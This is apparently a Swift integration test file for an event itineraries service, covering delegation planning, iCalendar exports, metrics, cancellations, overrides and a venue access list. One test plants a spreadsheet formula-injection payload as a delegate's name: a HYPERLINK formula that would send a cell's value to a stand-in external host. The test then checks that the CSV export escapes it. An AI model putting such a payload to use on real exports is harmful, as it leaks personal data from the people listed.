import AMQP
import Foundation
import GRDB
import ItinerariesCore
import ItineraryPlanner
import Messages
import ServiceRuntime
import TestSupport
import Testing

#if canImport(FoundationNetworking)
    import FoundationNetworking
#endif

/// The itineraries service in-process, fed the seed scenario through the real broker: the
/// pipeline, the planning service running beside it and the HTTP surface together. The planning
/// rules are in `ItinerariesRulesTests`.
@Suite struct ItinerariesServiceTests {
    static let sample = URL(fileURLWithPath: TestBroker.root).appendingPathComponent("deploy/sample-data")

    static func seed() throws -> (ProgrammePublished, [RegistrationAccepted]) {
        let programme = try MessageCoding.decode(
            ProgrammePublished.self, from: Data(contentsOf: sample.appendingPathComponent("programme.json")))
        let submissions = try MessageCoding.decode(
            [RegistrationSubmitted].self, from: Data(contentsOf: sample.appendingPathComponent("registrations.json")))
        let accepted = submissions.map { s in
            RegistrationAccepted(
                registrationID: registrationID(eventID: s.eventID, reference: s.reference), eventID: s.eventID, reference: s.reference,
                revision: s.revision,
                delegation: s.delegation,
                acceptedAt: s.submittedAt ?? programme.publishedAt, submittedAt: s.submittedAt)
        }
        return (programme, accepted)
    }

    /// Each delegation's itinerary as last told (planned, then any changes), in arrival order.
    static func latestItems(_ bed: ServiceTestBed) -> [String: [ItineraryItem]] {
        var latest: [String: [ItineraryItem]] = [:]
        for delivery in bed.observer.deliveries {
            if let planned = try? MessageCoding.decode(ItineraryPlanned.self, from: delivery.body),
                delivery.properties.type == MessageType.itineraryPlanned.rawValue
            {
                latest[planned.registrationID] = planned.items
            } else if let changed = try? MessageCoding.decode(ItineraryChanged.self, from: delivery.body),
                delivery.properties.type == MessageType.itineraryChanged.rawValue
            {
                latest[changed.registrationID] = changed.items
            }
        }
        return latest
    }

    /// Waits until every delegation has its plan and nothing more has come for a second.
    static func settle(_ bed: ServiceTestBed, delegations: Int) async {
        _ = await bed.waitFor(ItineraryPlanned.self, count: delegations, within: 30)
        var seen = -1
        _ = await eventually(within: 15) {
            let now = bed.observer.count
            defer { seen = now }
            if now == seen { return true }
            try? await Task.sleep(for: .seconds(1))
            return false
        }
    }

    static func withService(
        debounce: Double = 0.2, maxWait: Double = 2, _ body: (ServiceTestBed, ServiceHost) async throws -> Void
    ) async throws {
        try await ServiceTestBed.withRunningService(
            "itineraries",
            { bed in
                let configuration = ItinerariesConfiguration(
                    // A budget of iterations, no wall-clock cap: the plans do not depend on the load.
                    service: bed.configuration(), vault: .ephemeral(), debounce: debounce, maxWait: maxWait, searchIterations: 200,
                    searchSeconds: 600)
                return try await ItinerariesService.makeHost(configuration, logger: TestBroker.logger, connectPatience: 5)
            }, body)
    }

    /// An import through the broker: the seed registrations as one batch are planned as soon as
    /// the last is in, long before the minute of quiet this service waits for otherwise.
    @Test func anImportIsPlannedWhenItsLastRegistrationIsInNotAfterTheQuietWait() async throws {
        let (programme, accepted) = try Self.seed()
        try await Self.withService(debounce: 60, maxWait: 120) { bed, host in
            try await bed.publish(programme)
            for (index, registration) in accepted.enumerated() {
                var message = registration
                message.batch = BatchPosition(id: "seed-import", index: index, count: accepted.count)
                try await bed.publish(message)
            }
            let planned = await bed.waitFor(ItineraryPlanned.self, count: accepted.count, within: 40)
            #expect(planned.count == accepted.count, "planned within 40 s of the first, with 60 s of quiet asked for")
            let port = try #require(host.httpPort)
            let (metrics, _) = try await URLSession.shared.data(from: URL(string: "http://127.0.0.1:\(port)/metrics")!)
            let text = String(decoding: metrics, as: UTF8.self)
            #expect(text.contains("plan_runs_total{service=\"\(bed.serviceName)\",trigger=\"batch\"}"), "\(text)")
        }
    }

    @Test func theSeedScenarioIsPlannedAndEveryDelegationToldOnce() async throws {
        let (programme, accepted) = try Self.seed()
        try await Self.withService { bed, host in
            try await bed.publish(programme)
            for registration in accepted { try await bed.publish(registration) }
            await Self.settle(bed, delegations: accepted.count)
            let planned = bed.seen(ItineraryPlanned.self)
            #expect(Set(planned.map(\.registrationID)) == Set(accepted.map(\.registrationID)))
            #expect(planned.count == accepted.count, "each delegation hears of its first plan once")
            let latest = Self.latestItems(bed)

            // The stored plan holds every hard constraint and gives visits and meetings.
            let (version, plan) = try #require(
                try await host.store.database.read { db in try ItineraryStore.latestPlan(eventID: programme.eventID, in: db) })
            let input = PlanningInput(programme: programme, delegations: accepted.map(PlanningDelegation.init))
            #expect(PlanChecker().violations(of: plan, for: input).isEmpty)
            #expect(!plan.tours.isEmpty && !plan.meetings.isEmpty)
            #expect(planned.allSatisfy { $0.planVersion <= version })
            let visits = latest.values.flatMap { $0 }.filter { $0.kind == .visit }
            #expect(!visits.isEmpty)
            #expect(latest.values.allSatisfy { $0.contains { $0.kind == .session } }, "everyone attends the networking session")
            // Delegations without documents never reach the port or the free trade zone.
            let restricted = Set(programme.venues.filter { $0.restrictedAccess != nil }.map(\.id))
            for registration in accepted where registration.delegation.delegates.contains(where: { $0.identityDocument == nil }) {
                #expect(latest[registration.registrationID]?.allSatisfy { !restricted.contains($0.venueID ?? "") } == true)
            }

            // Over HTTP: the iCalendar file of a delegation with a visit parses, in its language.
            let port = try #require(host.httpPort)
            let (someone, items) = try #require(latest.sorted { $0.key < $1.key }.first { $0.value.contains { $0.kind == .visit } })
            let url = URL(string: "http://127.0.0.1:\(port)/events/\(programme.eventID)/delegations/\(someone)/itinerary.ics?lang=zh-Hans")!
            let (data, response) = try await URLSession.shared.data(from: url)
            #expect((response as? HTTPURLResponse)?.statusCode == 200)
            let file = bed.directory.appendingPathComponent("itinerary.ics")
            try data.write(to: file)
            let parsed = try await TestBroker.run(
                "/usr/bin/python3",
                [
                    "-c",
                    "import icalendar,sys; c=icalendar.Calendar.from_ical(open(sys.argv[1],'rb').read()); "
                        + "print(len(list(c.walk('VEVENT'))), len(list(c.walk('VTIMEZONE'))))",
                    file.path,
                ])
            #expect(parsed.trimmingCharacters(in: .whitespacesAndNewlines) == "\(items.count) 1")

            // The access list of the port names only documented visitors, with their numbers.
            let (list, _) = try await URLSession.shared.data(
                from: URL(string: "http://127.0.0.1:\(port)/events/\(programme.eventID)/venues/lien-chieu-port/access-list")!)
            let decoder = MessageCoding.makeDecoder()
            let entries = try decoder.decode([ItinerariesHTTP.AccessEntry].self, from: list)
            let portVisitors = Set(plan.tours.filter { $0.stops.contains { $0.venueID == "lien-chieu-port" } }.flatMap(\.passengers))
            #expect(Set(entries.map(\.registrationID)) == portVisitors)
            #expect(entries.allSatisfy { !$0.number.isEmpty })
            // The CSV site security opens in a spreadsheet: a name that is a formula stays text.
            var forged = try #require(entries.first)
            forged.fullName = "=HYPERLINK(\"https://x.example/?\"&E3,\"Li Wei\")"
            #expect(ItinerariesHTTP.csv([forged]).contains(",\"'=HYPERLINK("))

            // The plan's value and how long planning takes, for the dashboard.
            let (metrics, _) = try await URLSession.shared.data(from: URL(string: "http://127.0.0.1:\(port)/metrics")!)
            let text = String(decoding: metrics, as: UTF8.self)
            let value = PlanChecker().score(of: plan, for: input).visitValue
            #expect(text.contains("plan_value{service=\"\(bed.serviceName)\",event=\"\(programme.eventID)\"} \(value)"), "\(text)")
            #expect(text.contains("plan_duration_seconds_count{service=\"\(bed.serviceName)\"}"))

            // It cancels: its calendar client gets METHOD:CANCEL for every entry it had.
            let leaving = try #require(accepted.first { $0.registrationID == someone })
            try await bed.publish(
                RegistrationCancelled(
                    registrationID: leaving.registrationID, eventID: leaving.eventID, reference: leaving.reference,
                    reason: "flight cancelled",
                    delegation: leaving.delegation.withoutIdentityDocuments, cancelledAt: Date()))
            // (It may have heard of changes before: wait for the one that withdraws everything.)
            #expect(
                await eventually(within: 15) {
                    bed.seen(ItineraryChanged.self).contains { $0.registrationID == someone && $0.items.isEmpty }
                })
            let cancellations = URL(
                string: "http://127.0.0.1:\(port)/events/\(programme.eventID)/delegations/\(someone)/cancellations.ics")!
            try (try await URLSession.shared.data(from: cancellations)).0.write(to: file)
            let script =
                "import icalendar,sys; c=icalendar.Calendar.from_ical(open(sys.argv[1],'rb').read()); "
                + "print(c['METHOD'], *sorted(set(str(e['STATUS']) for e in c.walk('VEVENT')))); "
                + "print(*sorted(str(e['UID']) for e in c.walk('VEVENT')))"
            let withdrawn = try await TestBroker.run("/usr/bin/python3", ["-c", script, file.path]).split(separator: "\n")
            #expect(withdrawn.first == "CANCEL CANCELLED")
            let uids = Set(withdrawn.dropFirst().first?.split(separator: " ").map(String.init) ?? [])
            #expect(Set(items.map(\.uid)).isSubset(of: uids), "every entry it had is withdrawn (and any withdrawn earlier)")

            // The organisers steer through the broker: an override is answered once a plan keeps
            // it, a re-optimisation is previewed, then applied.
            let rider = try #require(plan.tours.first { $0.day == "2026-01-14" && !$0.passengers.contains(someone) })
            let pinned = try #require(accepted.first { rider.passengers.contains($0.registrationID) })
            let bus = try #require(programme.buses.map(\.id).first { $0 != rider.busID })
            try await bed.publish(
                PlanOverrideRequested(
                    eventID: programme.eventID, overrideID: "pin-1", kind: .pin, reference: pinned.reference, busID: bus, day: "2026-01-14")
            )
            #expect(await eventually(within: 20) { bed.seen(PlanOverrideDecided.self).contains { $0.overrideID == "pin-1" } })
            let decided = try #require(bed.seen(PlanOverrideDecided.self).first { $0.overrideID == "pin-1" })
            #expect(decided.outcome == .applied, "\(decided.reason ?? "")")
            try await bed.publish(PlanReoptimiseRequested(eventID: programme.eventID, requestID: "preview-1"))
            #expect(await eventually(within: 20) { bed.seen(PlanReoptimised.self).contains { $0.requestID == "preview-1" } })
            try await bed.publish(PlanReoptimiseRequested(eventID: programme.eventID, requestID: "apply-1", applyPreview: "preview-1"))
            #expect(await eventually(within: 20) { bed.seen(PlanReoptimised.self).contains { $0.requestID == "apply-1" } })
            let applied = try #require(bed.seen(PlanReoptimised.self).first { $0.requestID == "apply-1" })
            #expect(applied.outcome == .applied, "\(applied.reason ?? "")")
            let (_, steered) = try #require(
                try await host.store.database.read { db in try ItineraryStore.latestPlan(eventID: programme.eventID, in: db) })
            #expect(steered.tour(of: pinned.registrationID, on: "2026-01-14")?.busID == bus, "the re-optimised plan keeps the pin")
        }
    }
}
